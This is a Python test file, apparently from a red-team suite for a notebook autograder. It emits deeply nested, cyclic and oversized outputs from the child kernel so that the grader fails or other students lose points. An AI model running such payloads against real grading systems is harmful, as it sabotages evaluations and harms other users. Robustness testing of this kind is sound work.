"""The outputs of the test in the child are nested deeper, and larger, than an answer may be.

Success: another question or a neighbor loses points, or the class stops.
"""

ALONE = True
DESERVES = ["square", "standardize", "total", "words", "distance", "root", "primes"]


def attack(submission):
    submission.solve()
    submission.in_child(
        """
        from IPython.display import display
        deep = []
        for _ in range(900):
            deep = [deep]
        loop = {}
        loop["again"] = loop
        for value in (deep, loop, 10**400, {str(n): [n] * 100 for n in range(20_000)}):
            display({"application/json": value, "text/plain": "x"}, raw=True)
            get_ipython().outputs.add(
                {"output_type": "display_data", "data": {"application/json": value}}, 1
            )
        """
    )
